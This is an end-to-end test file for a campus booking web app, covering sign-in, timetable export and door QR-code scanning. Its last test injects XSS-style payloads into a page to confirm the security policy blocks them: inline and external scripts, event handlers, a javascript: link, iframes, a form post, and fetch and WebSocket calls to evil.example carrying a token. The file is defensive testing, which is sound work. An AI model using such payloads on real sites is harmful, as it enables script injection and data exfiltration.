// The browser holds every page to its policy: what an attacker would add to a page does nothing. That no screen
// offends against it is seen where all of them are opened (accessibility.e2e.test.ts): an offence is a complaint.
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { offencesOf, PHONE } from '../harness/browser.ts';
import { type Campus, openCampus } from '../harness/campus.ts';

let campus: Campus;
beforeAll(async () => {
  campus = await openCampus();
});
afterAll(() => campus?.close());

it('is not offended against by the sign-in page, filled wrongly as well', async () => {
  const visitor = await campus.window();
  const { page } = visitor;
  await page.goto(`${campus.server.url}/pc/home`);
  await page.locator('input[type=password]').waitFor();
  await page.locator('input[type=text]').first().fill('student1');
  await page.locator('input[type=password]').fill('wrong');
  await page.locator('button[type=submit]').click();
  await page.getByRole('alert').waitFor();
  // What the page has said by now is heard before its answer.
  await page.evaluate(() => undefined);
  expect(offencesOf(visitor)).toEqual([]);
  await visitor.context.close();
});

/** Bytes of an empty picture of this size would be a tenth of it. */
const DRAWN_BYTES = 40_000;
const PNG_WIDTH_AT = 16;

it('lets a timetable be saved as a picture, drawn twice as large', async () => {
  const visitor = await campus.enter('student1', `/pc/home/resource/${campus.room('逸夫楼 302 会议室').id}`);
  const { page } = visitor;
  const part = page.locator('.resource-main');
  await part.locator('.tt').waitFor();
  const coming = page.waitForEvent('download');
  await page.getByRole('button', { name: '保存为图片' }).click();
  const saved = await coming;
  expect(saved.suggestedFilename()).toBe('download.png');
  const file = await readFile(await saved.path());
  expect(file.readUInt32BE(PNG_WIDTH_AT)).toBe(2 * Math.round((await part.boundingBox())?.width ?? 0));
  expect(file.length).toBeGreaterThan(DRAWN_BYTES);
  expect(visitor.complaints).toEqual([]);
  await visitor.context.close();
});

it('lets a phone read the code of a door, by its camera and out of a picture', async () => {
  const id = campus.room('逸夫楼 302 会议室').id;
  const glass = await campus.enter('student1', '/pc/home');
  await glass.page.goto(`${campus.server.url}/door/${id}`);
  const code = await glass.page.locator('.door-qr').screenshot();
  await glass.context.close();

  const { page, context, complaints } = await campus.enter('student1', '/pc/home', { size: PHONE });
  // Its camera shows the door.
  await page.addInitScript((picture) => {
    let asked = 0;
    const shown = async (): Promise<MediaStream> => {
      asked += 1;
      document.documentElement.dataset.asked = String(asked);
      const image = new Image();
      image.src = `data:image/png;base64,${picture}`;
      await image.decode();
      const canvas = document.createElement('canvas');
      [canvas.width, canvas.height] = [640, 480];
      const drawing = canvas.getContext('2d');
      setInterval(() => {
        drawing?.fillRect(0, 0, 640, 480);
        if (document.documentElement.dataset.isAimed) drawing?.drawImage(image, 140, 60, 360, 360);
      }, 50);
      return canvas.captureStream(20);
    };
    Object.defineProperty(navigator, 'mediaDevices', { value: { getUserMedia: shown } });
  }, code.toString('base64'));
  const scanner = `${campus.server.url}/mobile/qrcode-scanner`;
  await page.goto(scanner);
  const video = page.getByLabel('摄像头画面');
  await video.waitFor();
  await page.evaluate(() => {
    document.documentElement.dataset.isAimed = 'yes';
  });
  await page.waitForURL(`**/pc/appointmentScanner/${id}*`);
  expect(await page.evaluate(() => document.documentElement.dataset.asked)).toBe('1');

  await page.goto(scanner);
  await video.waitFor();
  await page
    .locator('input[type=file]')
    .setInputFiles({ name: 'code.png', mimeType: 'image/png', buffer: code });
  await page.waitForURL(`**/pc/appointmentScanner/${id}*`);
  expect(complaints).toEqual([]);
  await context.close();
});

describe('what an attacker adds to a page', () => {
  it('does nothing: it runs no script, shows no frame, reaches no other address', async () => {
    const visitor = await campus.enter('student1', '/pc/home');
    expect(visitor.complaints).toEqual([]);
    const { page } = visitor;
    const outcome = await page.evaluate(async () => {
      const add = (tag: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        element.textContent = text;
        document.body.append(element);
        return element;
      };
      add('script', {}, 'window.inlineRan = true');
      add('script', { src: 'https://evil.example/x.js' });
      add('img', { src: 'x:', onerror: 'window.handlerRan = true' });
      add('a', { href: 'javascript:window.linkRan=true' }).click();
      add('style', {}, 'body { background: url(https://evil.example/seen) }');
      add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
      add('iframe', { src: 'https://evil.example/' });
      add('object', { data: 'https://evil.example/' });
      add('base', { href: 'https://evil.example/' });
      const form = add('form', { action: 'https://evil.example/', method: 'post', target: '_blank' });
      if (form instanceof HTMLFormElement) form.submit();
      const reached: string[] = [];
      await fetch('https://evil.example/?token=1').then(
        () => reached.push('fetch'),
        () => undefined,
      );
      await new Promise<void>((resolve) => {
        const socket = new WebSocket('wss://evil.example/');
        socket.onerror = () => resolve();
        socket.onopen = () => {
          reached.push('socket');
          resolve();
        };
        setTimeout(resolve, 20_000);
      });
      return { reached, base: new URL('.', document.baseURI).host === location.host };
    });
    expect(outcome).toEqual({ reached: [], base: true });
    const refused = () => [...new Set(offencesOf(visitor).map((one) => one.split(' ', 1)[0]))].toSorted();
    await expect
      .poll(refused)
      .toEqual(
        [
          'script-src-elem',
          'script-src-attr',
          'style-src-elem',
          'img-src',
          'frame-src',
          'object-src',
          'form-action',
          'connect-src',
        ].toSorted(),
      );
    // Each was refused by now, and what is refused does not run later.
    const ran = await page.evaluate(() =>
      ['inlineRan', 'handlerRan', 'linkRan'].filter((name) => Reflect.get(window, name) === true),
    );
    expect(ran).toEqual([]);
    await visitor.context.close();
  });
});
